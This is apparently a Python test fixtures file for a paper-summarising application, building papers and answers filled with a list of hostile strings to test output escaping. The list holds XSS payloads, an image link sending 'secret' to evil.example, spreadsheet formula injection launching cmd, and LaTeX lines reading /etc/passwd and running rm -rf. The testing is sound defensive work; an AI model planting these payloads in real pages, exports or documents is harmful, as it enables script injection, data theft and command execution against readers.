"""Papers and answers as hostile as sources can make them, and values to compare with."""

from __future__ import annotations

from typing import Any

from paperline.domain.answers import (
    Answer,
    AnswerKind,
    AnswerSentence,
    AnswerStatus,
    Citation,
    Coverage,
    RetrievalMode,
)
from paperline.domain.days import DayPaper
from paperline.domain.provenance import Engine, Provenance, Usage
from paperline.domain.scopes import Scope
from paperline.domain.summaries import Checks, Claim, ClaimKind, Line, Origin, Summary
from paperline.domain.text import Field, Span
from tests.builders import DAY, NOW, a_paper

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "[ref]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example and www.evil.example",
    "# Heading",
    "- [ ] task",
    "1. first",
    "===",
    "---",
    "***bold*** __strong__ ~~gone~~ `code` ```",
    "| a | b |",
    "$x$ $$y$$ \\(z\\)",
    "&lt;b&gt; &#60; &amp;copy",
    "a\n\n# b\r\n> c\u2028- d\x85e\x0bf\x0cg",
    "trailing backslash \\",
    "    indented code",
    "\u202egnp.exe\u200b \x1b]52;c;AAAA\x07 \x00",
    '=HYPERLINK("https://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "} \\input{/etc/passwd} @misc{x, title={y}}",
    "\\write18{rm -rf} {{{",
    "%comment",
    "ER  - \r\nTY  - JOUR",
    '"quoted", comma; semicolon',
    "Ünïcödé 数学 Ελλάδα 👩\u200d🔬",
]


def a_span(text: str) -> Span:
    return Span(Field.ABSTRACT, 0, len(text), text)


def a_provenance(**changes: Any) -> Provenance:
    return Provenance(
        **{"engine": Engine.EMBEDDED, "model": "embedded/1", "weights": None, "checks_version": "1", "created_at": NOW}
        | changes
    )


def found(text: str = "A line.", **changes: Any) -> DayPaper:
    """A paper of which every text is `text`, where nothing else is given."""
    checks = Checks(passed=True)
    line = Line(text=text, parts=(), origin=Origin.VERBATIM, engine=Engine.EMBEDDED, checks=checks)
    claim = Claim(
        text=text, kind=ClaimKind.RESULT, evidence=(a_span(text),), origin=Origin.VERBATIM, engine=Engine.EMBEDDED,
        checks=checks,
    )  # fmt: skip
    paper = a_paper(**{"title": text, "abstract": text, "authors": (text,), "categories": (text,)} | changes)
    summary = Summary(
        id=paper.id, version=1, tldr=line, claims=(claim,), keywords=(text,), usage=Usage(),
        provenance=a_provenance(paper_version=1),
    )  # fmt: skip
    return DayPaper(paper, summary)


def an_answer(text: str) -> Answer:
    """An answer of which every text is `text`."""
    citation = Citation("arxiv:2512.00001", text, (a_span(text),))
    sentence = AnswerSentence(text, (citation,), Origin.VERBATIM, Engine.EMBEDDED, Checks(passed=True))
    coverage = Coverage(Scope.of_day(DAY), (DAY,), 1, 1, 1, 1, RetrievalMode.HYBRID, note=text)
    return Answer(
        id="a_1", status=AnswerStatus.ANSWERED, kind=AnswerKind.EXTRACT, question=text, text=text,
        sentences=(sentence,), coverage=coverage, confidence=0.9, usage=Usage(), provenance=a_provenance(),
    )  # fmt: skip
